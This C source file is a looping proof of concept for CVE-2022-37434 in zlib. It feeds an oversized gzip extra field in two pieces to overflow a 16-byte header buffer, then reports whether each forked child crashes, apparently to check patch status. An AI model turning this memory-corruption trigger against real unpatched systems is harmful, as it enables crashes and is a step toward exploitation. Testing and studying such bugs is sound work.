/*
 * CVE-2022-37434 proof of concept, run in a loop: each round a child
 * inflates a gzip stream whose header has a 64-byte extra field, given in
 * two pieces, into a gz_header whose extra buffer holds 16 bytes. zlib
 * before the fix computes a negative remaining size on the second piece
 * and copies far past the buffer: the child dies. The parent never calls
 * inflate itself, so it can be patched while it runs.
 */
#include <stdio.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>
#include <zlib.h>

static void attack(void)
{
	unsigned char hdr[12] = {0x1f, 0x8b, 8, 4, 0, 0, 0, 0, 0, 3, 64, 0}; /* FEXTRA, XLEN=64 */
	unsigned char data[32], out[64], extra[16];
	z_stream s;
	gz_header h;

	memset(&s, 0, sizeof s);
	memset(&h, 0, sizeof h);
	memset(data, 'A', sizeof data);
	if (inflateInit2(&s, 16 + 15) != Z_OK)
		_exit(2);
	h.extra = extra;
	h.extra_max = sizeof extra;
	inflateGetHeader(&s, &h);
	s.next_out = out;
	s.avail_out = sizeof out;
	s.next_in = hdr;
	s.avail_in = sizeof hdr;
	inflate(&s, Z_NO_FLUSH);
	for (int i = 0; i < 2; i++) {
		s.next_in = data;
		s.avail_in = sizeof data;
		inflate(&s, Z_NO_FLUSH);
	}
	inflateEnd(&s);
	_exit(0);
}

int main(void)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	printf("zlib %s\n", zlibVersion());
	for (;;) {
		pid_t pid = fork();
		int st;
		if (pid == 0)
			attack();
		waitpid(pid, &st, 0);
		if (WIFSIGNALED(st))
			printf("poc=crashed signal=%d\n", WTERMSIG(st));
		else
			printf("poc=survived status=%d\n", WEXITSTATUS(st));
		usleep(100000);
	}
}
